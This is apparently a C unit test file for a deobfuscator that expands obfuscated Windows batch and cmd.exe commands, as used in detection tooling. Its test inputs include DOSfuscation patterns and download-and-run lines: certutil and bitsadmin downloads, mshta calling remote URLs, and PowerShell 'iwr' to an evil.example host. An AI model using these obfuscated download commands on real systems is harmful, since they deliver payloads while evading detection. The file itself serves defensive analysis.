/*
 * test_deob_cmd.c - the batch and cmd.exe evaluator (src/deob/cmd.c):
 * what each supported construct yields (the exact list of strings, all
 * "cmd expansion"), the DOSfuscation shapes (substring picking, FOR
 * coding, replacements, carets, cmd /c nesting with call), what is not
 * recorded, the step, byte, time and depth limits, garbage, truncated
 * and empty input, and 10 MB of garbage and of pathological patterns
 * within a second.
 */
#include "test_helpers.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "deob/deob.h"
#include "deob_test.h"

#define HOW "cmd expansion"

/* deob_cmd() on s with lim (NULL: defaults) into r (initialised here). */
static void
run(const char *s, const struct deob_limits *lim, struct deob_result *r)
{
	deob_run_checked(deob_cmd, s, lim, r);
	for (guint i = 0; i < r->strs->len; i++) {
		const struct deob_str *d = r->strs->pdata[i];
		assert_string_equal(d->how, HOW);
	}
}

static void
dump(const struct deob_result *r)
{
	deob_dump(r);
	print_error("  limit %s\n", r->limit != NULL ? r->limit : "-");
}

/* s must yield exactly want (NULL-terminated), in that order. */
static void
expect_list(const char *s, const char *const *want)
{
	struct deob_result r;
	run(s, NULL, &r);
	guint n = 0;
	bool ok = true;
	for (; want[n] != NULL; n++)
		if (n >= r.strs->len ||
		    strcmp(((struct deob_str *)r.strs->pdata[n])->value, want[n]) != 0)
			ok = false;
	if (!ok || n != r.strs->len || r.limit != NULL) {
		print_error("%s\nwant:\n", s);
		for (guint i = 0; want[i] != NULL; i++)
			print_error("  %s\n", want[i]);
		print_error("got:\n");
		dump(&r);
		fail();
	}
	deob_result_clear(&r);
}

#define EXPECT(s, ...) expect_list((s), (const char *const[]){ __VA_ARGS__, NULL })
#define NOTHING(s) expect_list((s), (const char *const[]){ NULL })

static void
test_constructs(void **state)
{
	(void)state;
	/* substrings: positive, negative, negative length, out of range */
	EXPECT("set x=0123456789\r\n"
	    "powershell %x:~2,3%%x:~-3%%x:~-4,2%%x:~1,-7%%x:~20%%x:~-20,2%%x:~5,0%%x:~8,-5%\r\n",
	    "powershell 234789671201");
	EXPECT("set x=0123456789\npowershell %x:~7% %x:~ 3,2% %x:~-2,+1%\n",
	    "powershell 789 34 8");
	/* replacements: case-insensitive, every match; * through the first */
	EXPECT("set y=HeLLo World\npowershell %y:l=L% %y:*o=X% %y:o=% %y:*WOR=%\n",
	    "powershell HeLLo WorLd X World HeLL Wrld ld");
	EXPECT("set y=abc\npowershell %y:=x% %y:q=z%\n", "powershell abc abc");
	/* carets and "" in the program's name */
	EXPECT("set a=calc\np^o^w\"\"er^s^hell -c %a%\n", "powershell -c calc");
	EXPECT("p^o^w\"\"er^s^hell -c calc", "powershell -c calc");
	/* a caret inside quotes stays */
	EXPECT("set a=x\nmshta \"a^b\" %a%\n", "mshta \"a^b\" x");
	/* built-ins */
	EXPECT("%COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c calc", "cmd /c calc");
	EXPECT("certutil -urlcache -f http://x.example/a %PUBLIC%\\a.exe",
	    "http://x.example/a",
	    "certutil -urlcache -f http://x.example/a C:\\Users\\Public\\a.exe");
	EXPECT("set t=%TEMP%\\%USERNAME%\nrundll32 %t%.dll,Go\n",
	    "rundll32 C:\\Users\\user\\AppData\\Local\\Temp\\user.dll,Go");
	EXPECT("start /b %SystemRoot%\\System32\\mshta.exe x",
	    "start /b C:\\Windows\\System32\\mshta.exe x", "C:\\Windows\\System32\\mshta.exe x");
	/* a batch file drops undefined variables; a command line keeps them */
	EXPECT("@echo off\nmshta%junk% http://h.example/x\n", "http://h.example/x",
	    "mshta http://h.example/x");
	EXPECT("mshta %junk% http://h.example/x", "http://h.example/x");
	/* %% and arguments in a batch file */
	EXPECT("set p=power\n%p%shell %%x %1 %~dp0a.ps1\n", "powershell %x  a.ps1");
	/* set "name=value", names case-insensitive, unset */
	EXPECT("set \"Url=http://c.example/p\" junk\ncurl %URL% -o x\n",
	    "http://c.example/p", "curl http://c.example/p -o x");
	EXPECT("set u=abc\nset u=\nset v=1\ncurl %u%%v%\n", "curl 1");
	/* set keeps trailing blanks before & */
	EXPECT("set a=mshta & set b=x\n%a%%b%\n", "mshta x");
	NOTHING("set a=pow & set b=ershell\n%a%%b% x\n");
	/* && || | & split commands */
	EXPECT("set a=curl&& set b=mshta\n%a% x || %b% y | wscript %a% & rundll32 z\n",
	    "curl x", "mshta y", "wscript curl");
	/* on one line, %a% is expanded before set runs: a batch file drops it */
	NOTHING("@echo off\nset a=curl& %a% x\n");
	/* an EncodedCommand is recorded as it is, for the PowerShell evaluator */
	EXPECT("set e=SQBFAFgA\n%COMSPEC:~-7,1%md /c p^owershell -e %e%\n",
	    "cmd /c powershell -e SQBFAFgA", "powershell -e SQBFAFgA");
	/* line continuation */
	EXPECT("set a=calc\npower^\nshell -c %a%\n", "powershell -c calc");
	/* labels, comments and goto are read past */
	EXPECT(":start\n:: set a=bad\nrem set a=bad\nset a=good\ngoto start\nmshta %a%\n",
	    "mshta good");
}

static void
test_delayed_and_nesting(void **state)
{
	(void)state;
	/* !name! only when delayed expansion is on */
	EXPECT("setlocal enabledelayedexpansion\nset a=ht\nset b=!a!tp://e.example/\n"
	    "mshta !b!x\n", "http://e.example/x", "mshta http://e.example/x");
	EXPECT("set a=ht\nset b=!a!tp://e.example/\nmshta %b%x\n", "mshta !a!tp://e.example/x");
	EXPECT("setlocal EnableDelayedExpansion\nset x=abcdefg\nmshta !x:~-3,2!!x:c=Z!\n",
	    "mshta efabZdefg");
	/* cmd /c: a new command line; call expands again */
	EXPECT("cmd /c \"set a=pow&&set b=ershell&&call %a%%b% -c iwr http://evil.example/x.exe\"",
	    "http://evil.example/x.exe", "powershell -c iwr http://evil.example/x.exe");
	/* FOR coding (Invoke-DOSfuscation's FORcode) */
	EXPECT("cmd /V:ON /C \"set unique=lowershp &&for %A in (7,1,2,3,4,5,6,3,0,0,1337) do "
	    "set final=!final!!unique:~%A,1!&&if %A==1337 call %final:~-10% -nop\"",
	    "powershell -nop");
	/* reversal with for /L and delayed expansion */
	EXPECT("cmd /v /c \"set r=atc/moc.elpmaxe.r//:ptth athsm&&for /L %i in (29,-1,0) do "
	    "set o=!o!!r:~%i,1!&&if %i==0 call %o%\"",
	    "http://r.example.com/cta", "mshta http://r.example.com/cta");
	/* carets, case and delimiters around for and if */
	EXPECT("cmd /v /c \"set a=xathsm&&F^oR,/L %i in (5,-1,1) do set o=!o!!a:~%i,1!&&I^f %i==1 "
	    "call %o% y\"", "mshta y");
	/* in a batch file %%i */
	EXPECT("setlocal enabledelayedexpansion\nfor /L %%i in (1,1,3) do set v=!v!%%i\n"
	    "powershell !v!\n", "powershell 123");
	EXPECT("for %%u in (cert bits) do set p=%%u\n%p%admin /transfer j http://a.b/c C:\\a.exe\n",
	    "http://a.b/c", "bitsadmin /transfer j http://a.b/c C:\\a.exe");
	/* call set with %% */
	EXPECT("set x=lehsrewop\ncall set y=%%x:~8,1%%%%x:~7,1%%%%x:~6,1%%er%%x:~3,1%%hell\n"
	    "%y%\n", "powershell");
	/* if: decided, or both branches when unknown */
	EXPECT("set a=1\nif %a%==2 (powershell %a%) else (mshta %a%)\n", "mshta 1");
	EXPECT("set a=1\nif /i not \"%a%\"==\"2\" wscript %a%\n", "wscript 1");
	EXPECT("set a=1\nif %a% GEQ 2 (powershell %a%) else (mshta %a%)\n", "mshta 1");
	EXPECT("set a=1\nif exist x (powershell %a%) else (mshta %a%)\n", "powershell 1",
	    "mshta 1");
	EXPECT("set a=1\nif defined a powershell %a%\nif not defined a mshta %a%\n",
	    "powershell 1");
	/* start runs its program; for /f runs its command */
	EXPECT("set u=http://s.example/x\nstart \"\" /b mshta %u%\n", "http://s.example/x",
	    "start \"\" /b mshta http://s.example/x", "mshta http://s.example/x");
	EXPECT("set a=calc\nfor /f \"tokens=*\" %%i in ('powershell -c %a%') do echo %%i\n",
	    "powershell -c calc");
	/* parentheses around commands */
	EXPECT("set a=calc\n(powershell %a% & mshta %a%)\n", "powershell calc", "mshta calc");
	/* a ')' outside a block is text */
	EXPECT("set x=a)\nmshta %x% b)\n", "mshta a) b)");
	EXPECT("set x=a\n(set y=%x%) & (mshta %x% & (curl %x%)) & wscript %x%)\n",
	    "mshta a", "curl a", "wscript a)");
	/* cmd /c in cmd /c, each expanding its own */
	EXPECT("set a=calc\ncmd /c cmd /v:on /c \"set b=x&&mshta !b!%a%\"\n",
	    "cmd /c cmd /v:on /c \"set b=x&&mshta !b!calc\"",
	    "cmd /v:on /c \"set b=x&&mshta !b!calc\"", "mshta xcalc");
}

static void
test_not_recorded(void **state)
{
	(void)state;
	/* as written: nothing hidden */
	NOTHING("powershell -nop -c calc");
	NOTHING("@echo off\r\npowershell -nop -c calc\r\nmshta x\r\n");
	/* not a program */
	NOTHING("set a=calc\necho %a%\nnotepad %a%\n");
	/* set /a and set /p are not evaluated */
	NOTHING("set /a x=1+2\nset /p y=?\nmshta %x%%y%\n");
	/* a URL as written is still recorded */
	EXPECT("echo http://plain.example/a", "http://plain.example/a");
	EXPECT("bitsadmin /transfer j \"https://q.example/a b\"", "https://q.example/a");
}

static void
test_limits(void **state)
{
	(void)state;
	GString *s = g_string_new("set a=calc\n");
	for (int i = 0; i < 3000; i++)
		g_string_append_printf(s, "mshta %%a%% %d\n", i);
	struct deob_result r;
	struct deob_limits lim = { .steps = 100 };
	run(s->str, &lim, &r);
	assert_string_equal(r.limit, "steps");
	assert_true(r.strs->len > 0 && r.strs->len < 20);
	deob_result_clear(&r);

	lim = (struct deob_limits){ .bytes = 40 };
	run(s->str, &lim, &r);
	assert_string_equal(r.limit, "bytes");
	assert_true(r.bytes <= 40 && r.strs->len > 0);
	deob_result_clear(&r);

	lim = (struct deob_limits){ .deadline = g_get_monotonic_time() - 1 };
	run(s->str, &lim, &r);
	assert_string_equal(r.limit, "time");
	deob_result_clear(&r);

	run(s->str, NULL, &r);
	assert_null(r.limit);
	assert_int_equal(r.strs->len, 3000);
	deob_result_clear(&r);
	g_string_free(s, TRUE);

	/* cmd /c within cmd /c: lim->depth levels */
	const char *nest = "set a=calc\ncmd /c cmd /c cmd /c powershell %a%\n";
	lim = (struct deob_limits){ .depth = 2 };
	run(nest, &lim, &r);
	assert_string_equal(r.limit, "depth");
	assert_int_equal(r.strs->len, 3);	/* the three cmd lines */
	deob_result_clear(&r);
	EXPECT(nest, "cmd /c cmd /c cmd /c powershell calc", "cmd /c cmd /c powershell calc",
	    "cmd /c powershell calc", "powershell calc");
	/* call within call: DEOB_NEST_MAX */
	s = g_string_new("set a=calc\n");
	for (int i = 0; i < 200; i++)
		g_string_append(s, "call ");
	g_string_append(s, "mshta %a%\n");
	run(s->str, NULL, &r);
	assert_string_equal(r.limit, "depth");
	deob_result_clear(&r);
	g_string_free(s, TRUE);

	/* a value doubles to DEOB_STR_MAX, not further */
	s = g_string_new("set a=abcdefgh\n");
	for (int i = 0; i < 20; i++)
		g_string_append(s, "set a=%a%%a%\n");
	g_string_append(s, "mshta %a%\n");
	run(s->str, NULL, &r);
	assert_null(r.limit);
	assert_int_equal(r.strs->len, 1);
	assert_int_equal(((struct deob_str *)r.strs->pdata[0])->len, DEOB_STR_MAX);
	deob_result_clear(&r);
	g_string_free(s, TRUE);
}

static void
test_garbage_and_truncated(void **state)
{
	(void)state;
	NOTHING("");
	NOTHING("\n\n  \r\n");
	struct deob_result r;
	deob_result_init(&r);
	deob_cmd(NULL, 0, NULL, &r);
	assert_int_equal(r.strs->len, 0);
	deob_result_clear(&r);
	/* cut anywhere */
	const char *full = "@echo off\nsetlocal enabledelayedexpansion\n"
	    "set x=abcdefghijklmnopqrstuvwxyz:/.\n"
	    "set \"y=mshtaQQ\"\nfor %%i in (7 19 19 15) do set u=!u!!x:~%%i,1!\n"
	    "if defined u (%y:Q=% !u!%x:~-3,2%/e.example/a) else cmd /v /c \"call %%x%%\"\n"
	    "p^o\"\"wershell -c \"iwr %u%\" & start \"\" certutil\n";
	for (size_t n = 0; n <= strlen(full); n++) {
		deob_result_init(&r);
		deob_cmd(full, n, NULL, &r);
		deob_result_clear(&r);
	}
	EXPECT(full, "http://e.example/a", "mshta http://e.example/a",
	    "powershell -c \"iwr http\"");
	/* unterminated %, ! and quotes */
	EXPECT("set a=x\nmshta %a%%b:~1\n", "mshta xb:~1");
	EXPECT("setlocal enabledelayedexpansion\nset a=x\nmshta !a!!b\n", "mshta x");
	EXPECT("set a=x\nmshta \"%a% & curl %a%\n", "mshta \"x & curl x");
	/* invalid UTF-8 and NUL bytes */
	EXPECT("set a=\377\nmshta %a%\n", "mshta \357\277\275");
	deob_result_init(&r);
	deob_cmd("set a=\0b\nmshta %a%\n", 19, NULL, &r);
	assert_int_equal(r.strs->len, 1);
	assert_string_equal(((struct deob_str *)r.strs->pdata[0])->value, "mshta \357\277\275b");
	deob_result_clear(&r);
}

static void
test_ten_megabytes(void **state)
{
	(void)state;
	const size_t n = 10u * 1024 * 1024;
	char *b = g_malloc(n);
	GRand *rnd = g_rand_new_with_seed(18);
	for (size_t i = 0; i < n; i++)
		b[i] = (char)g_rand_int_range(rnd, 0, 256);
	g_rand_free(rnd);
	deob_within_budget(deob_cmd, "random", b, n);
	/* random bytes from cmd's special characters */
	static const char special[] = "%!^&|\"()~:=, \n\rabc01-*sc/";
	rnd = g_rand_new_with_seed(19);
	for (size_t i = 0; i < n; i++)
		b[i] = special[g_rand_int_range(rnd, 0, (gint32)sizeof special - 1)];
	g_rand_free(rnd);
	deob_within_budget(deob_cmd, "special", b, n);
	g_free(b);
	static const char *const patterns[] = {
		"%a:~",
		"%a:~\n",
		"set a=%a%%a%\n",
		"set a=x%a%%a%&",
		"setlocal enabledelayedexpansion\nset a=!a!!a!\n",
		"%COMSPEC:~-7,1%",
		"%COMSPEC:e=ee%",
		"%",
		"!",
		"^",
		"\"",
		"&",
		"((((",
		"cmd /c ",
		"cmd /v:on /c \"",
		"call ",
		"if a==a ",
		"for %i in (1 2 3) do ",
		"for /L %i in (1,1,100000) do call set y=%COMSPEC:~3,1%",
		"for /f %i in ('cmd /c for /L %j in (1,1,1000) do ') do ",
		"mshta http://",
		"powershell x&",
		"start ",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(patterns); i++) {
		b = deob_repeat(patterns[i], n);
		deob_within_budget(deob_cmd, patterns[i], b, n);
		g_free(b);
	}
	/* many distinct recorded lines: bounded by steps and records */
	GString *s = g_string_new("set a=x\n");
	for (unsigned i = 0; s->len < n; i++)
		g_string_append_printf(s, "mshta %%a%%%u&", i);
	deob_within_budget(deob_cmd, "distinct", s->str, s->len);
	g_string_free(s, TRUE);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_constructs),
		cmocka_unit_test(test_delayed_and_nesting),
		cmocka_unit_test(test_not_recorded),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_garbage_and_truncated),
		cmocka_unit_test(test_ten_megabytes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
